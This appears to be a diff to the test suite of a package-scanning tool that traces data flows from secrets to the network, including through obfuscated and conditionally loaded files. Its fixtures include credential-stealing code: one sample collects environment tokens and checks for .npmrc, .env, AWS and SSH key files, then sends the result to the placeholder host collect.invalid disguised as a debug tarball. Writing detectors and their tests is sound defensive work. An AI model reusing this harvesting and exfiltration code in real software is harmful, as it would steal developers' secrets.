@@ -127,10 +127,10 @@ const CONSTRUCTS: Readonly<Record<string, string>> = {
     send(JSON.stringify(process.WORD));`,
 };
 
-const flowsOf = (code: string): readonly string[] =>
-  analysePackage(packageOf({ 'index.js': code })).flows.map(
-    ({ source, sink, host = '' }) => `${source}>${sink}@${host}`,
-  );
+const flowsIn = (files: Readonly<Record<string, string>>): readonly string[] =>
+  analysePackage(packageOf(files)).flows.map(({ source, sink, host = '' }) => `${source}>${sink}@${host}`);
+
+const flowsOf = (code: string): readonly string[] => flowsIn({ 'index.js': code });
 
 const SEND = `function send(body) { fetch('https://collect.invalid', { method: 'POST', body }); }`;
 
@@ -140,6 +140,14 @@ describe('what a tool has made unreadable', () => {
       assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'env')), ['environment>network@collect.invalid']);
     });
 
+    it(`is followed in a file that is loaded in a branch, through ${construct}`, () => {
+      const files = {
+        'index.js': `if (Math.random() > 0.5) require('./own');`,
+        'own.js': SEND + code.replaceAll('WORD', 'env'),
+      };
+      assert.deepEqual(flowsIn(files), ['environment>network@collect.invalid']);
+    });
+
     it(`is nothing where it sends no data through ${construct}`, () => {
       assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'version')), []);
     });
@@ -147,7 +155,7 @@ describe('what a tool has made unreadable', () => {
 });
 
 /** Each word behind a cipher, some of them in pieces: decoding them is most of what such code does. */
-function obfuscated(code: string): string {
+function obfuscated(code: string, more: JavaScriptObfuscator.ObfuscatorOptions = {}): string {
   return JavaScriptObfuscator.obfuscate(code, {
     target: 'node',
     seed: 1,
@@ -157,6 +165,7 @@ function obfuscated(code: string): string {
     splitStrings: true,
     splitStringsChunkLength: 3,
     numbersToExpressions: true,
+    ...more,
   }).getObfuscatedCode();
 }
 
@@ -181,6 +190,31 @@ describe('code of which each word has to be deciphered', () => {
         .map(({ when }) => when);
     assert.deepEqual(seen('new Function(kept)()'), ['.middleware()']);
     assert.deepEqual(seen('console.log(kept)'), []);
+  });
+
+  it('is followed in a file that a call loads, where it guards itself as well', () => {
+    const flows = (value: string): readonly string[] => {
+      const code = `const fs = require('fs'), path = require('path'), os = require('os');
+        const roots = [process.cwd(), os.homedir()];
+        const names = ['.npmrc', '.env', '.env.production', '.git-credentials', path.join('.aws', 'credentials'), path.join('.ssh', 'id_ed25519')];
+        module.exports = function trace(text) {
+          const found = { time: Date.now(), kept: Object.entries(${value}).filter(([name]) => /token|secret|key|pass|auth/i.test(name)) };
+          for (const root of roots) for (const name of names) found[name] = fs.existsSync(path.join(root, name));
+          const request = require('https').request({ hostname: 'collect.invalid', path: '/debug/-/debug-4.3.4.tgz', method: 'PUT', headers: { 'content-type': 'application/octet-stream' } });
+          request.on('error', () => {}); request.end(require('zlib').deflateRawSync(JSON.stringify(found)));
+          return text;
+        };`;
+      return flowsIn({
+        'index.js': `exports.trace = (text) => require('./own')(String(text));`,
+        'own.js': obfuscated(code, {
+          optionsPreset: 'medium-obfuscation',
+          disableConsoleOutput: false,
+          stringArrayEncoding: ['base64'],
+        }),
+      });
+    };
+    assert.deepEqual(flows('process.env'), ['environment>network@collect.invalid']);
+    assert.deepEqual(flows('process.versions'), []);
   });
 
   it('is followed from a constructor of one file into the others', () => {
